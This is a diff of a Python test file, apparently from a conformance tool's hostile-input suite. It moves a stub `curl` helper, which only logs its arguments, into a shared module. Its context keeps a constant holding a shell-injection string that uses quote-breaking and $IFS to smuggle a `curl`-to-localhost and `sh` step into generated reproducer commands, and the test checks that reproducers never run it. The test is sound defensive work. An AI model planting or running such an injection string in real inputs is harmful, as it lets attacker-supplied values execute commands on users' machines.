@@ -15,13 +15,13 @@ from __future__ import annotations
 import json
 import re
 import subprocess
-import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from masivo_conformance.checks.calls import EVENT_OPERATIONS
+from tests.hostile.stub_curl import stub_curl
 from tests.hostile.tamperer import Exchange, Tamperer, json_patch, replace
 from tests.suite.cli_runs import run_cli, target_args
 
@@ -32,21 +32,6 @@ QUOTING_TOKEN = "\"'\"'Bx"
 COMMANDS = "A'BxOUT;curl$IFS-so$IFS,x$IFS$@127.0.0.1:9;sh$IFS,x;echo$IFS'BxOUT2"
 GITHUB_COMMAND = re.compile(r"^[ \t]*::", re.MULTILINE)
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
-
-
-def _stub_curl(folder: Path) -> Path:
-    """A folder holding only `curl`, which appends its arguments to $CURL_LOG as JSON."""
-    folder.mkdir()
-    stub = folder / "curl"
-    stub.write_text(
-        f"#!{sys.executable}\n"
-        "import json, os, sys\n"
-        "with open(os.environ['CURL_LOG'], 'a', encoding='utf-8') as log:\n"
-        "    log.write(json.dumps(sys.argv[1:]) + '\\n')\n",
-        encoding="utf-8",
-    )
-    stub.chmod(0o755)
-    return folder
 
 
 def _hand_out_own_values(hostile: Tamperer) -> None:
@@ -100,7 +85,7 @@ def test_no_reproducer_runs_the_targets_commands(hostile: Tamperer, tmp_path: Pa
     assert run.exit_code == 1, run.tail()
     lines = _reproducers(run.stdout, reports)
     assert any("IFS" in line for line in lines), "no reproducer carries the target's ids"
-    stub = _stub_curl(tmp_path / "bin")
+    stub = stub_curl(tmp_path / "bin")
     for n, line in enumerate(lines):
         work, log = tmp_path / f"work-{n}", tmp_path / f"curl-{n}.log"
         work.mkdir()
